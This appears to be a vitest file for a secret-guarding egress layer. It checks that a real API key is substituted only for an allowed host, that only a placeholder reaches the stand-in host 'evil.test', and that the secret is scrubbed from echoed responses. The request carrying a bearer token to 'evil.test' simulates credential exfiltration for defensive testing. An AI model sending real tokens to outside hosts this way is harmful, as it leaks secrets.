/**
 * The Effect route into egress: `@effect/platform`'s `HttpClient` provided by
 * `SecretgateHttpClient.layer`, against a real HTTPS upstream.
 */
import { HttpClient } from "@effect/platform"
import { SecretgateHttpClient } from "@secretgate/undici"
import { Effect } from "effect"
import { afterAll, beforeAll, expect, it } from "vitest"
import { last, makeWorld, type World } from "./support/fixture.js"
import { testAgentOptions } from "./support/upstream.js"

let world: World
beforeAll(async () => {
  world = await makeWorld()
})
afterAll(() => world.close())

const VALUE = "sk-effect-Xy7"

it("substitutes on allowed hosts, withholds elsewhere, and scrubs the echo", async () => {
  const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
  const layer = SecretgateHttpClient.layer({ resolver: await world.gate.resolver(box.mount), agentOptions: testAgentOptions })
  const program = Effect.gen(function*() {
    const client = yield* HttpClient.HttpClient
    const allowed = yield* client.get(world.https.url("api.allowed.test", "/echo"), { headers: { authorization: `Bearer ${box.env.KEY}` } })
    const echoed = yield* allowed.text
    const receivedByAllowed = last(world.https).headers.authorization
    const other = yield* client.get(world.https.url("evil.test", "/echo"), { headers: { authorization: `Bearer ${box.env.KEY}` } })
    yield* other.text
    return { echoed, receivedByAllowed, receivedByOther: last(world.https).headers.authorization }
  })
  const result = await Effect.runPromise(Effect.scoped(Effect.provide(program, layer)))
  expect(result.receivedByAllowed).toBe(`Bearer ${VALUE}`)
  expect(result.receivedByOther).toBe(`Bearer ${box.env.KEY}`)
  expect(result.echoed).not.toContain(VALUE)
  expect(result.echoed).toContain(box.env.KEY)
})
